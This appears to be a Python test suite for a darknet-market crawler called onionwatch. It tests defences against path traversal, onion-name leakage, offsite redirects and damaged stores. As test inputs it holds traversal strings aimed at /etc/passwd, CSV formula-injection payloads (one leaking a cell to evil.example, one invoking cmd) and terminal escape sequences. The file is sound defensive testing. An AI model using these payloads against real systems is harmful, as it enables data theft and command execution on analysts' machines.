"""Issue 9: hostile pages and servers (all on 127.0.0.1), a careless operator's config, broken stores."""
from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from crawlers.evidence import read_pages
from crawlers.middlewares.redirect_loop import OffsiteRedirect, RedirectLoopMiddleware
from crawlers.runner import CrawlRefused, CrawlSpec, crawl
from helpers import expected, run_once, site_dir
from index import open_index
from onionwatch.config import ConfigError, CrawlLimits, MarketSource, load_config

ONION56 = "http://" + "a" * 56 + ".onion./"
SECRET = "neighbour-secret-7f3a"


def _captured_text(report) -> bytes:
    return b"".join(page.body for page in read_pages(Path(report.warc_path))) if Path(report.warc_path).exists() else b""


# --- 1. folder mirrors never read outside themselves ------------------------------------------------

def test_folder_mirror_refuses_traversal_and_symlinks_out(tmp_path, make_config):
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "page.html").write_text(f"<html><body>{SECRET}</body></html>")
    site = tmp_path / "mirror" / "site"
    (site / "sub").mkdir(parents=True)
    os.symlink(tmp_path / "secret.txt", site / "link.html")
    os.symlink(tmp_path / "outside", site / "linkdir")
    links = ["%2e%2e/%2e%2e/secret.txt", "..%2f..%2fsecret.txt", "sub/..%2f..%2f..%2fsecret.txt",
             "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "link.html", "linkdir/page.html",
             "fine.html"]
    (site / "index.html").write_text(
        "<html><body>" + "".join(f'<a href="{link}">x</a>' for link in links) + "</body></html>")
    (site / "fine.html").write_text("<html><body>an ordinary page</body></html>")
    market = MarketSource("hostile", (site / "index.html").as_uri())
    config = make_config(market)
    report = run_once(config, market, open_index(config))

    body = _captured_text(report)
    assert SECRET.encode() not in body and b"root:x:0" not in body
    assert b"an ordinary page" in body
    refused = [p for p in report.problems if "outside the mirror" in p.message]
    assert len(refused) >= 5, report.problems


def test_market_name_cannot_escape_the_data_folder(tmp_path):
    config_file = tmp_path / "ow.toml"
    config_file.write_text(f'[[markets]]\nname = "../../etc"\nsource = "{site_dir("tayga")}"\n')
    with pytest.raises(ConfigError, match="market name"):
        load_config(config_file)
    from crawlers.evidence import warc_path
    from datetime import datetime

    with pytest.raises(ValueError):
        warc_path(tmp_path, "../../etc", datetime.now(), "run")


# --- 2. fail-closed: trailing dots, case, typos -----------------------------------------------------

def test_trailing_dot_onion_is_refused_and_never_resolved(make_config, monkeypatch, tmp_path):
    log = tmp_path / "lookups.txt"
    monkeypatch.setenv("ONIONWATCH_DNS_LOG", str(log))
    for url in (ONION56, ONION56.upper().replace("HTTP", "http")):
        market = MarketSource("hidden", url + "index.html")
        config = make_config(market)
        report = run_once(config, market, open_index(config))
        assert report.status == "failed" and "Tor proxy" in report.error, url
    assert not log.exists() or "onion" not in log.read_text().lower()


def test_the_resolver_stand_in_sees_the_crawls_lookups(http_mirror, monkeypatch, tmp_path):
    """The DNS log truly intercepts what the crawl child resolves (control for the test above)."""
    log = tmp_path / "lookups.txt"
    monkeypatch.setenv("ONIONWATCH_DNS_LOG", str(log))
    server = http_mirror(site_dir("tortuga"))
    url = server.url.replace("127.0.0.1", "localhost") + "index.html"
    summary = crawl(CrawlSpec(market="t", start_url=url, warc_path=str(tmp_path / "t.warc.gz"), max_pages=2,
                              retry_times=0))
    assert summary.pages >= 1
    assert "localhost" in log.read_text().split()


def test_the_crawl_child_refuses_to_resolve_onion_names(tmp_path):
    log = tmp_path / "lookups.txt"
    code = ("import socket, sys\nfrom crawlers.runner import guard_name_lookups\n"
            f"guard_name_lookups({str(log)!r})\n"
            "try:\n    socket.getaddrinfo('abc.ONION.', 80)\nexcept socket.gaierror as e:\n    print('refused', e)\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert out.stdout.startswith("refused"), out.stderr
    assert log.read_text().split() == ["abc.ONION."]


def test_onion_start_with_trailing_dot_is_refused_before_the_child_starts(tmp_path):
    with pytest.raises(CrawlRefused):
        crawl(CrawlSpec(market="x", start_url=ONION56, warc_path=str(tmp_path / "x.warc.gz")))


@pytest.mark.parametrize("text, message", [
    ('[proxy]\nhtp = "http://127.0.0.1:8118"', "unknown key proxy.htp"),
    ('[limits]\nmax_pagez = 5', "unknown key limits.max_pagez"),
    ('[alerts]\nwebhok = "http://x"', "unknown key alerts.webhok"),
    ('[scheduler]\nmisfire = 5', "unknown key scheduler.misfire"),
    ('data_dir = 5', "data_dir must be"),
    ('proxy = "str"', r"\[proxy\] must be a table"),
    ('[proxy]\nhttp = "str"', "not a proxy URL"),
    ('[proxy]\nhttp = 8118', "must be a URL"),
    ('[limits]\nmax_pages = "many"', "limits.max_pages must be a number"),
    ('[limits]\nmax_pages = -3', "limits.max_pages must be more than 0"),
    ('[limits]\ntimeout_s = true', "limits.timeout_s must be a number"),
    ('[alerts]\nsmtp_starttls = "yes"', "true or false"),
])
def test_config_mistakes_are_one_line_errors(tmp_path, text, message):
    path = tmp_path / "ow.toml"
    path.write_text(text)
    with pytest.raises(ConfigError, match=message) as caught:
        load_config(path)
    assert "\n" not in str(caught.value) and str(path) in str(caught.value)


def test_non_utf8_config_is_one_line(tmp_path):
    path = tmp_path / "ow.toml"
    path.write_bytes('data_dir = "данные"\n'.encode("cp1251"))
    with pytest.raises(ConfigError, match="not UTF-8"):
        load_config(path)


# --- 3. redirects never leave the source ------------------------------------------------------------

def test_redirect_to_another_host_is_an_error_not_evidence(make_config, copied_site, http_mirror):
    other = http_mirror(site_dir("northwind"))
    site = copied_site("tortuga")
    index_page = site / "index.html"
    index_page.write_text(index_page.read_text(encoding="utf-8").replace("</body>", '<a href="away.html">a</a></body>'))
    target = other.url.replace("127.0.0.1", "localhost") + "index.html"

    def away(handler):
        handler.send_response(302)
        handler.send_header("Location", target)
        handler.end_headers()

    server = http_mirror(site, routes={"/away.html": away})
    market = MarketSource("tortuga", server.url + "index.html", on_gate="skip")
    config = make_config(market)
    index = open_index(config)
    report = run_once(config, market, index)
    assert other.requests == []
    (problem,) = [p for p in report.problems if p.url.endswith("away.html")]
    assert "redirect off the source" in problem.message
    assert all(page.url.startswith(server.url) for page in read_pages(Path(report.warc_path)))
    assert index.count() == len(expected("tortuga")["listings"])


def test_redirect_to_another_onion_is_refused():
    from scrapy import Request
    from scrapy.http import Response

    request = Request("http://" + "a" * 56 + ".onion/item/1")
    response = Response(request.url, status=302, headers={"Location": "http://" + "b" * 56 + ".onion/x"},
                        request=request)
    with pytest.raises(OffsiteRedirect):
        RedirectLoopMiddleware().process_response(request, response)
    same = Response(request.url, status=302, headers={"Location": "/item/2"}, request=request)
    assert RedirectLoopMiddleware().process_response(request, same) is same


# --- 4. no injection into the analyst's spreadsheet or terminal ---------------------------------------

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cocaine 1g")', "=cmd|' /C calc'!A0 Cocaine 1g",
    "+SUM(1+1) Cocaine 1g", "@SUM(1+1) Cocaine 1g", "-2+3 Cocaine 1g",
    "Cocaine \x1b[2J\x1b[H1g \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b31m",
]


def _hostile_market(tmp_path) -> Path:
    import html

    site = tmp_path / "hostile-site"
    site.mkdir()
    links = []
    for number, title in enumerate(HOSTILE_TITLES):
        (site / f"l{number}.html").write_text(
            f"<html><head><title>{html.escape(title)}</title></head><body><h1>{html.escape(title)}</h1>"
            "<table><tr><td>Price</td><td>$25</td></tr></table><button>Buy</button></body></html>")
        links.append(f'<a href="l{number}.html">x</a>')
    (site / "index.html").write_text("<html><body>" + "".join(links) + "</body></html>")
    config_file = tmp_path / "ow.toml"
    config_file.write_text(f'[[markets]]\nname = "hostile"\nsource = "{site}"\n')
    return config_file


def test_csv_cells_and_terminal_tables_are_neutralised(tmp_path):
    import csv
    import io

    from helpers import onionwatch

    config_file = _hostile_market(tmp_path)
    env = {"ONIONWATCH_DATA": str(tmp_path / "data")}
    run = onionwatch("--config", str(config_file), "run", env=env)
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stdout and "\x9b" not in run.stdout
    out = onionwatch("--config", str(config_file), "search", "market:hostile", "--csv", "--limit", "50", env=env)
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert len(rows) == len(HOSTILE_TITLES)
    for row in rows:
        assert not row["title"].startswith(("=", "+", "-", "@")), row["title"]
        assert "\x1b" not in row["title"]
    assert any(row["title"].startswith("'=HYPERLINK(") for row in rows)
    table = onionwatch("--config", str(config_file), "search", "market:hostile", "--limit", "50", env=env)
    assert table.returncode == 0
    assert not any(ch in table.stdout for ch in "\x1b\x9b\x07\x9d")
    assert "Cocaine 1g click" in table.stdout


def test_sanitisers():
    from onionwatch.safe_output import csv_cell, terminal_text

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\t=1") == "'\t=1" and csv_cell("\r=1") == "'\r=1"
    assert csv_cell("-12.5") == "-12.5" and csv_cell(-3) == -3 and csv_cell("Cocaine") == "Cocaine"
    assert terminal_text("a\x1b]8;;http://x\x1b\\b\x1b]8;;\x1b\\c\x1b[31md\x00e\x85f") == "abcdef"
    assert terminal_text("Мефедрон\nАлматы") == "Мефедрон Алматы"


# --- 5. error pages are decided from structure, not a title word ------------------------------------

def _listing_page(title: str, price: str = "$120") -> str:
    return (f"<html><head><title>{title}</title></head><body><h1>{title}</h1>"
            f"<table><tr><td>Price</td><td>{price}</td></tr><tr><td>Vendor</td><td>404 Labs</td></tr></table>"
            "<button>Buy</button></body></html>")


def test_titles_with_status_numbers_keep_their_listings():
    from extract.page import extract_page

    for title in ("Ecstasy Tesla 250mg x 500 pills", "Cocaine 1g - 404 Labs", "MDMA 500mg error-free stealth"):
        result = extract_page(_listing_page(title).encode(), title)
        assert result.page_type not in ("error", "captcha", "login"), title
        assert len(result.listings) == 1, title
    northwind = (site_dir("northwind") / "category" / "stimulants.html").read_text(encoding="utf-8")
    plain = extract_page(northwind.encode(), "category")
    retitled = northwind.replace("<title>", "<title>Pills x 500 - 404 Labs - error-free ", 1)
    result = extract_page(retitled.encode(), "category")
    assert plain.listings and result.page_type == plain.page_type
    assert [item.title for item in result.listings] == [item.title for item in plain.listings]


def test_real_error_pages_are_still_error_pages():
    for page in ("<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>",
                 "<html><head><title>Error 500 - Some Market</title></head><body>Error 500</body></html>",
                 "<html><head><title>Ошибка</title></head><body><h1>Страница не найдена</h1></body></html>",
                 "<html><head><title>Listing not found</title></head><body>"
                 + "".join(f'<a href="/c/{i}">menu {i}</a>' for i in range(60)) + "</body></html>"):
        from extract.document import parse
        from extract.gates import gate_type

        assert gate_type(parse(page.encode())) == "error", page


def test_a_live_crawl_goes_on_past_a_500_pills_title(tmp_path, make_config, http_mirror):
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text('<html><body><a href="a.html">a</a></body></html>')
    (site / "a.html").write_text(_listing_page("Ecstasy Tesla 250mg x 500 pills").replace(
        "</body>", '<a href="b.html">next</a></body>'))
    (site / "b.html").write_text(_listing_page("Speed 10g").replace("</body>", '<a href="c.html">next</a></body>'))
    (site / "c.html").write_text("<html><head><title>404 Not Found</title></head><body>Not Found</body></html>")
    server = http_mirror(site)
    market = MarketSource("live", server.url + "index.html")  # a live site: on_gate = stop
    config = make_config(market)
    index = open_index(config)
    report = run_once(config, market, index)
    assert report.status == "ok", report.error
    titles = sorted(hit["title"] for hit in index.search("market:live", limit=10).hits)
    assert titles == ["Ecstasy Tesla 250mg x 500 pills", "Speed 10g"]


# --- 6. index rebuild never empties the index; damaged index files say how to recover ----------------

@pytest.fixture
def ran_tayga(tmp_path):
    from helpers import onionwatch

    config_file = tmp_path / "ow.toml"
    config_file.write_text(f'[[markets]]\nname = "tayga"\nsource = "{site_dir("tayga")}"\n')
    env = {"ONIONWATCH_DATA": str(tmp_path / "data")}
    assert onionwatch("--config", str(config_file), "run", env=env).returncode == 0

    def cli(*args):
        return onionwatch("--config", str(config_file), *args, env=env)

    return tmp_path / "data", cli


def _listing_count(cli) -> int:
    out = cli("search", "market:tayga", "--json", "--limit", "500")
    assert out.returncode == 0, out.stderr
    return len(out.stdout.splitlines())


def test_rebuild_skips_a_garbled_warc_and_a_corrupt_rates_store(ran_tayga):
    data, cli = ran_tayga
    before = _listing_count(cli)
    assert before == len(expected("tayga")["listings"])
    (capture,) = list((data / "captures" / "tayga").rglob("*.warc.gz"))
    garbled = capture.parent / "zz-garbled.warc.gz"
    garbled.write_bytes(capture.read_bytes()[:300] + os.urandom(4000))
    (data / "rates.sqlite").write_bytes(b"this is not a database" * 100)
    out = cli("index", "rebuild")
    assert out.returncode == 0, out.stderr
    assert "Traceback" not in out.stderr
    assert "zz-garbled.warc.gz: unreadable, skipped" in out.stderr and "rates.sqlite is damaged" in out.stderr
    assert _listing_count(cli) == before


def test_truncated_index_meta_is_one_line_and_rebuild_recovers(ran_tayga):
    data, cli = ran_tayga
    (meta,) = list((data / "index").rglob("meta.json"))
    meta.write_text(meta.read_text()[:100])
    broken = cli("search", "market:tayga")
    assert broken.returncode == 1 and "Traceback" not in broken.stderr
    assert len(broken.stderr.strip().splitlines()) == 1 and "onionwatch index rebuild" in broken.stderr
    fixed = cli("index", "rebuild")
    assert fixed.returncode == 0, fixed.stderr
    assert _listing_count(cli) == len(expected("tayga")["listings"])


def test_a_deleted_index_folder_is_refilled_by_the_next_run(ran_tayga):
    import shutil

    data, cli = ran_tayga
    shutil.rmtree(data / "index")
    again = cli("run")
    assert again.returncode == 0, again.stderr
    assert _listing_count(cli) == len(expected("tayga")["listings"])
    third = cli("run")  # and an ordinary re-run after that reads nothing again
    assert "0 listings extracted" in third.stdout or " 0 new, 0 changed" in third.stdout


def test_a_corrupt_sqlite_store_names_the_file_and_the_way_back(ran_tayga):
    data, cli = ran_tayga
    (data / "state.sqlite").write_bytes(b"garbage" * 1000)
    for suffix in ("-wal", "-shm"):
        (data / f"state.sqlite{suffix}").unlink(missing_ok=True)
    out = cli("run")
    assert out.returncode == 1 and "Traceback" not in out.stderr
    # stderr also carries the progress lines ("tayga: crawling…"); the error is one line of its own
    (line,) = [text for text in out.stderr.strip().splitlines() if text.startswith("onionwatch:")]
    assert "state.sqlite is damaged" in line and "delete it" in line


# --- 7. captures verify reports every kind of damage, per file and record -----------------------------

def _damaged_capture_setup(ran_tayga):
    import shutil

    data, cli = ran_tayga
    (capture,) = list((data / "captures" / "tayga").rglob("*.warc.gz"))
    manifest = Path(str(capture) + ".manifest.jsonl")
    assert manifest.exists()
    entries = [json.loads(line) for line in manifest.read_text().splitlines()]
    pages = [e for e in entries if "offset" in e]
    assert entries[-1]["closed"] and entries[-1]["pages"] == len(pages) > 5
    raw = capture.read_bytes()
    made = {}

    def copy(name: str, content: bytes) -> Path:
        target = capture.parent / f"{name}.warc.gz"
        target.write_bytes(content)
        shutil.copy(manifest, str(target) + ".manifest.jsonl")
        made[name] = target
        return target

    copy("truncated", raw[: len(raw) // 2])
    copy("emptied", b"")
    cut = pages[3]
    copy("cut", raw[: cut["offset"]] + raw[cut["end"]:])
    middle = pages[4]["offset"] + 40
    copy("garbled", raw[:middle] + bytes(b ^ 0x5A for b in raw[middle: middle + 200]) + raw[middle + 200:])
    return data, cli, capture, pages, made


def test_verify_reports_truncated_emptied_cut_and_garbled_files(ran_tayga):
    import json as _json  # noqa: F401

    data, cli, capture, pages, made = _damaged_capture_setup(ran_tayga)
    out = cli("captures", "verify")
    assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr
    lines = out.stdout.splitlines()

    def about(name):
        return [line for line in lines if str(made[name]) in line]

    assert not [line for line in lines if str(capture) + " " in line or str(capture) + ":" in line]  # intact
    assert any(line.startswith("TRUNCATED") for line in about("truncated"))
    assert any(line.startswith("MISSING") for line in about("truncated"))
    assert any(line.startswith("EMPTY") for line in about("emptied"))
    assert len([line for line in about("emptied") if line.startswith("MISSING")]) == len(pages)
    (missing,) = [line for line in about("cut") if line.startswith("MISSING")]
    assert pages[3]["url"] in missing
    assert any(line.startswith(("UNREADABLE", "ALTERED")) for line in about("garbled"))
    # every file was checked, the garbled one did not stop the rest
    assert all(about(name) for name in made)


def test_verify_reports_a_deleted_capture_file(ran_tayga):
    data, cli = ran_tayga
    (capture,) = list((data / "captures" / "tayga").rglob("*.warc.gz"))
    capture.unlink()
    out = cli("captures", "verify")
    assert out.returncode == 1
    assert any(line.startswith("MISSING") and str(capture) in line for line in out.stdout.splitlines())


# --- 8. a monitor that cannot reach its market says so -------------------------------------------------

def _closed_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_unreachable_source_and_dead_proxy_fail_with_the_reason(make_config):
    limits = CrawlLimits(retry_times=1, retry_base_delay_s=0.1, timeout_s=5)
    unreachable = MarketSource("gone", f"http://127.0.0.1:{_closed_port()}/index.html")
    config = replace(make_config(unreachable), limits=limits)
    report = run_once(config, unreachable, open_index(config))
    assert report.status == "failed" and "source unreachable" in report.error and "refused" in report.error.lower()

    onion = MarketSource("hidden", "http://" + "c" * 56 + ".onion/")
    config = replace(make_config(onion), limits=limits, http_proxies=(f"http://127.0.0.1:{_closed_port()}",))
    report = run_once(config, onion, open_index(config))
    assert report.status == "failed" and "source unreachable" in report.error


def test_a_failed_run_is_recorded_as_failed(tmp_path):
    from helpers import onionwatch

    config_file = tmp_path / "ow.toml"
    config_file.write_text(f'[limits]\nretry_times = 0\n[[markets]]\nname = "gone"\n'
                           f'source = "http://127.0.0.1:{_closed_port()}/"\n')
    env = {"ONIONWATCH_DATA": str(tmp_path / "data")}
    out = onionwatch("--config", str(config_file), "run", env=env)
    assert out.returncode == 1 and "gone: failed" in out.stdout
    runs = onionwatch("--config", str(config_file), "runs", "--json", env=env)
    (row,) = [json.loads(line) for line in runs.stdout.splitlines()]
    assert row["status"] == "failed" and "source unreachable" in row["reason"]


# --- 9. alert sinks are bounded and never hold the write turn ----------------------------------------

class _HungSinks:
    """A webhook that answers one byte every 2 s, and an SMTP server that accepts and never speaks."""

    def __init__(self):
        import socket
        import threading
        import time

        self.stop = threading.Event()
        self.sockets = []
        self.connections = []

        def serve(listener, trickle):
            listener.settimeout(0.2)
            while not self.stop.is_set():
                try:
                    conn, _ = listener.accept()
                except OSError:
                    continue
                self.connections.append(conn)
                if trickle:
                    def drip(conn=conn):
                        try:
                            for byte in b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n":
                                if self.stop.wait(2):
                                    return
                                conn.send(bytes([byte]))
                        except OSError:
                            pass
                    threading.Thread(target=drip, daemon=True).start()

        for trickle in (True, False):
            listener = socket.socket()
            listener.bind(("127.0.0.1", 0))
            listener.listen(16)
            self.sockets.append(listener)
            threading.Thread(target=serve, args=(listener, trickle), daemon=True).start()
        self.webhook = f"http://127.0.0.1:{self.sockets[0].getsockname()[1]}/hook"
        self.smtp_port = self.sockets[1].getsockname()[1]
        self.time = time

    def close(self):
        self.stop.set()
        for sock in self.sockets + self.connections:
            sock.close()


def test_hung_webhook_and_silent_smtp_cost_bounded_time_outside_the_write_turn(make_config):
    import threading
    import time

    from onionwatch.alerts import SINK_TIMEOUT_S
    from onionwatch.config import AlertConfig
    from onionwatch.monitor import Monitor

    hung = _HungSinks()
    try:
        market = MarketSource("tayga", (site_dir("tayga") / "index.html").as_uri())
        alerts = AlertConfig(webhook=hung.webhook, smtp_host="127.0.0.1", smtp_port=hung.smtp_port,
                             smtp_to=("analyst@unit.test",))
        config = replace(make_config(market), alerts=alerts)
        monitor = Monitor(config, open_index(config))
        monitor.watchlists.add("meph", "drug:mephedrone")
        held_during_delivery = []
        original = monitor.watchlists.deliver

        def deliver(sinks):
            started = time.monotonic()
            def try_write_turn():
                got = monitor._writing.acquire(timeout=1)
                if got:
                    monitor._writing.release()
                held_during_delivery.append(not got)

            probe = threading.Thread(target=try_write_turn)
            probe.start()
            result = original(sinks)
            probe.join()
            deliver.took = time.monotonic() - started
            return result

        monitor.watchlists.deliver = deliver
        started = time.monotonic()
        done = threading.Thread(target=monitor.run, args=(market,), daemon=True)
        done.start()
        done.join(120)
        assert not done.is_alive(), "the run hung on its alert sinks"
        assert deliver.took < 2 * SINK_TIMEOUT_S + 3, deliver.took  # each sink once, then skipped
        assert held_during_delivery == [False]  # other markets could write while alerts went out
        pending = monitor.watchlists._db.execute(
            "SELECT count(*) FROM deliveries WHERE delivered IS NULL").fetchone()[0]
        assert pending == 4  # two hits, two sinks: kept for the next round
        (run,) = monitor.runs.recent()
        assert run["status"] == "ok"
        monitor.close()
        assert time.monotonic() - started < 60
    finally:
        hung.close()


# --- 10. nothing is left behind by a kill ------------------------------------------------------------

def _slow_site(tmp_path, http_mirror, seconds: float):
    import threading

    site = tmp_path / "slow-site"
    site.mkdir(exist_ok=True)
    (site / "index.html").write_text('<html><body><a href="slow.html">s</a></body></html>')
    release = threading.Event()

    def slow(handler):
        release.wait(seconds)
        try:
            handler.send_response(200)
            handler.end_headers()
            handler.wfile.write(b"<html><body>late</body></html>")
        except OSError:
            pass

    server = http_mirror(site, routes={"/slow.html": slow})
    return server, release


def _gone(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return True
    return "\nState:\tZ" in state or "\nState:\tX" in state


def _children(pid: int) -> list[int]:
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            text = status.read_text()
        except OSError:
            continue
        if f"\nPPid:\t{pid}\n" in text:
            found.append(int(status.parent.name))
    return found


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_killing_the_parent_kills_the_crawl_and_the_run_becomes_interrupted(tmp_path, http_mirror):
    import signal
    import time

    from helpers import onionwatch

    server, release = _slow_site(tmp_path, http_mirror, 60)
    config_file = tmp_path / "ow.toml"
    config_file.write_text(f'[[markets]]\nname = "slow"\nsource = "{server.url}index.html"\non_gate = "skip"\n')
    env = {**os.environ, "ONIONWATCH_DATA": str(tmp_path / "data")}
    parent = subprocess.Popen([sys.executable, "-m", "onionwatch.cli", "--config", str(config_file), "run"],
                              env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while "GET /slow.html" not in server.arrivals and time.monotonic() < deadline:
            time.sleep(0.2)
        assert "GET /slow.html" in server.arrivals
        (child,) = _children(parent.pid)
        os.kill(parent.pid, signal.SIGKILL)
        parent.wait()
        deadline = time.monotonic() + 10
        while not _gone(child) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _gone(child), "the crawl child outlived its parent"
    finally:
        release.set()
        parent.kill()
    runs = onionwatch("--config", str(config_file), "runs", "--json", env={"ONIONWATCH_DATA": str(tmp_path / "data")})
    (row,) = [json.loads(line) for line in runs.stdout.splitlines()]
    assert row["status"] == "interrupted" and "died" in row["reason"]


def test_the_crawl_child_keeps_its_own_wall_clock(tmp_path, http_mirror):
    import time

    server, release = _slow_site(tmp_path, http_mirror, 60)
    spec = tmp_path / "spec.json"
    spec.write_text(json.dumps(__import__("dataclasses").asdict(CrawlSpec(
        market="slow", start_url=server.url + "index.html", warc_path=str(tmp_path / "w.warc.gz"), wall_clock_s=1,
        timeout_s=120))))
    started = time.monotonic()
    try:
        # The child alone (as if its parent had stopped watching the clock): it ends itself.
        out = subprocess.run([sys.executable, "-m", "crawlers.runner", str(spec), str(tmp_path / "s.json"),
                              str(os.getpid())], capture_output=True, timeout=50)
    finally:
        release.set()
    assert out.returncode != 0 and time.monotonic() - started < 20


# --- 11. dead links in folder mirrors are not retried ------------------------------------------------

def test_dead_links_in_a_folder_mirror_fail_at_once(tmp_path, make_config):
    import time

    site = tmp_path / "dead"
    site.mkdir()
    (site / "index.html").write_text(
        "<html><body>" + "".join(f'<a href="missing-{i}.html">{i}</a>' for i in range(30)) + "</body></html>")
    market = MarketSource("dead", (site / "index.html").as_uri())
    config = replace(make_config(market), limits=CrawlLimits(retry_times=3, retry_base_delay_s=2))
    started = time.monotonic()
    report = run_once(config, market, open_index(config))
    took = time.monotonic() - started
    errors = [p for p in report.problems if p.kind == "error"]
    assert len(errors) == 30 and all("no such page" in p.message for p in errors)
    assert took < 20, took  # with retries: 30 x (2 + 4 + 8) s of back-off
    assert report.status == "ok"  # the start page was read: the market is reachable


# --- 12. bad input is one line, never a traceback or an abort ----------------------------------------

@pytest.mark.parametrize("args, message", [
    (("search", "x", "--limit", "0"), "out of range"),
    (("search", "x", "--limit", "-1"), "out of range"),
    (("search", "x", "--limit", "1000000000000"), "out of range"),
    (("search", "x", "--limit", "many"), "not a whole number"),
    (("runs", "--limit", "0"), "out of range"),
    (("stats", "--top-vendors", "99999999999"), "out of range"),
    (("search", "(" * 5000 + "x" + ")" * 5000), "nested more than"),
    (("search", "NOT " * 20000 + "x"), "more than 64 NOT"),
    (("search", "cocaine " * 3000), "query too long"),
    (("watch", "add", "w", "NOT " * 20000 + "x"), "more than 64 NOT"),
])
def test_bad_cli_input_is_one_clear_line(tmp_path, args, message):
    from helpers import onionwatch

    out = onionwatch(*args, env={"ONIONWATCH_DATA": str(tmp_path / "data")})
    assert out.returncode == 2, out.stderr[-500:]
    assert "Traceback" not in out.stderr and "panic" not in out.stderr
    assert message in out.stderr
    assert len([line for line in out.stderr.splitlines() if "error" in line or message in line]) == 1


def test_unreachable_elasticsearch_is_one_line(tmp_path):
    from helpers import onionwatch

    config_file = tmp_path / "ow.toml"
    config_file.write_text(f'[index]\nbackend = "elasticsearch"\nurl = "http://127.0.0.1:{_closed_port()}"\n')
    out = onionwatch("--config", str(config_file), "search", "cocaine", env={"ONIONWATCH_DATA": str(tmp_path / "d")})
    assert out.returncode == 1 and "Traceback" not in out.stderr
    (line,) = out.stderr.strip().splitlines()
    assert "Elasticsearch at http://127.0.0.1:" in line and "cannot be used" in line


@pytest.mark.parametrize("store", ["runs.sqlite", "watchlists.sqlite", "history.sqlite"])
def test_corrupt_sqlite_stores_name_the_file(tmp_path, store):
    from helpers import onionwatch

    data = tmp_path / "data"
    data.mkdir()
    (data / store).write_bytes(b"\x00garbage" * 2000)
    command = {"runs.sqlite": ("runs",), "watchlists.sqlite": ("watch", "list"),
               "history.sqlite": ("changes", "--since", "2024-01-01")}[store]
    out = onionwatch(*command, env={"ONIONWATCH_DATA": str(data)})
    assert out.returncode == 1 and "Traceback" not in out.stderr
    (line,) = out.stderr.strip().splitlines()
    assert f"{data / store} is damaged" in line and "to recover" in line


def test_replay_of_a_missing_or_garbage_warc_is_one_line(tmp_path):
    from helpers import onionwatch

    env = {"ONIONWATCH_DATA": str(tmp_path / "data")}
    missing = onionwatch("replay", "--market", "m", str(tmp_path / "nope.warc.gz"), env=env)
    assert missing.returncode == 2 and "no such capture file" in missing.stderr and "Traceback" not in missing.stderr
    garbage = tmp_path / "junk.warc.gz"
    garbage.write_bytes(os.urandom(5000))
    bad = onionwatch("replay", "--market", "m", str(garbage), env=env)
    assert bad.returncode == 1 and "Traceback" not in bad.stderr
    (line,) = bad.stderr.strip().splitlines()
    assert "not a readable WARC capture" in line


def test_replay_of_a_warc_with_a_wrong_content_length_is_one_line(tmp_path):
    """A record whose Content-Length is short makes warcio write a multi-line warning with the
    file's raw bytes to stderr; the analyst sees onionwatch's one line and nothing else."""
    from helpers import onionwatch

    body = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><title>x</title></html>"
    head = (
        b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://127.0.0.1/x\r\n"
        b"WARC-Date: 2026-01-01T00:00:00Z\r\nWARC-Record-ID: <urn:uuid:12345678-1234-1234-1234-123456789012>\r\n"
        b"Content-Type: application/http; msgtype=response\r\nContent-Length: %d\r\n\r\n" % (len(body) - 20)
    )
    short = tmp_path / "short.warc.gz"
    short.write_bytes(gzip.compress((head + body + b"\r\n\r\n") * 2))
    bad = onionwatch("replay", "--market", "m", str(short), env={"ONIONWATCH_DATA": str(tmp_path / "data")})
    assert bad.returncode == 1, bad.stderr
    (line,) = bad.stderr.strip().splitlines()
    assert "not a readable WARC capture" in line and "Remainder" not in line


# --- 13. smaller: deep nesting, page size on file://, nonsense prices --------------------------------

def _deep(levels: int) -> bytes:
    return ("<html><body>" + "<div>" * levels + "<h1>Deep Cocaine 1g</h1><table><tr><td>Price</td><td>$50</td></tr>"
            "</table><button>Buy</button>" + "</div>" * levels + "</body></html>").encode()


def test_listing_nested_deeper_than_255_levels_is_read_and_deeper_still_is_warned():
    from extract.page import extract_page

    result = extract_page(_deep(300), "deep")
    assert [listing.title for listing in result.listings] == ["Deep Cocaine 1g"]
    lost = extract_page(_deep(5000), "deeper")
    assert any("nested deeper" in warning for warning in lost.warnings)


def test_max_page_bytes_applies_to_folder_mirrors(tmp_path, make_config):
    site = tmp_path / "big"
    site.mkdir()
    (site / "index.html").write_text('<html><body><a href="huge.html">h</a><a href="ok.html">o</a></body></html>')
    (site / "huge.html").write_bytes(b"<html><body>" + b"<p>x</p>" * 300_000 + b"</body></html>")
    (site / "ok.html").write_text("<html><body>fine</body></html>")
    market = MarketSource("big", (site / "index.html").as_uri())
    config = replace(make_config(market), limits=CrawlLimits(max_page_bytes=1024 * 1024))
    report = run_once(config, market, open_index(config))
    (problem,) = [p for p in report.problems if p.url.endswith("huge.html")]
    assert "too large" in problem.message
    assert {Path(page.url).name for page in read_pages(Path(report.warc_path))} == {"index.html", "ok.html"}


@pytest.mark.parametrize("shown", ["$0.0.0.0.5", "$" + "0." * 500 + "5", "0.0.0.5 USD", "0,0,0,5 $"])
def test_dotted_nonsense_is_not_a_price(shown):
    from extract.measures import parse_prices

    assert parse_prices(shown) == []


